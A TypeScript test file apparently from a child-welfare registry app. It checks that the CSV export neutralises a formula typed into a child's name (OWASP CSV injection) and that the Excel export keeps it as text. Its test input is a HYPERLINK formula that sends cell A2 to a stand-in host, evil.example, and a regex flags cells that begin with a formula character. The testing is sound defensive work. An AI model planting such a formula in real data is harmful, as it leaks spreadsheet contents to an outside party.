import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../tests/support/app';
import { villageId } from '../demo/seed';

/** A name typed as a formula leaves the registry's CSV export as text, not as something a spreadsheet runs. */
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

describe('the children CSV export', () => {
  it("neutralises a formula in a child's name (OWASP CSV Injection); the Excel export keeps it as text", async () => {
    const cw = await t.login('caseworker.amravati');
    const name = '=HYPERLINK("http://evil.example/?"&A2,"Laxmi")';
    const created = await cw.post('/api/v1/children', {
      locationId: villageId('Kurha'),
      name,
      sex: 'female',
      ageYears: 9,
      careStatus: 'birth_family',
    });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().id;
    const res = await cw.get('/api/v1/children/export?format=csv');
    expect(res.statusCode).toBe(200);
    const rows = Papa.parse<Record<string, string>>(res.body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
    const row = rows.find((r) => r.id === id)!;
    expect(row.name).toBe(`'${name}`);
    expect(row.age).toBe('9');
    // No cell of the file begins with a formula character.
    for (const r of rows) for (const v of Object.values(r)) expect(v, JSON.stringify(r)).not.toMatch(/^[=+@\t\r]|^-\D/);
    const xlsx = await cw.get('/api/v1/children/export?format=xlsx');
    expect(xlsx.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0];
    const cells = sheet.getColumn(2).values as unknown[];
    expect(cells).toContain(name);
    const cell = sheet.getColumn(2).values.indexOf(name);
    expect(sheet.getCell(cell, 2).type).toBe(ExcelJS.ValueType.String);
  });
});
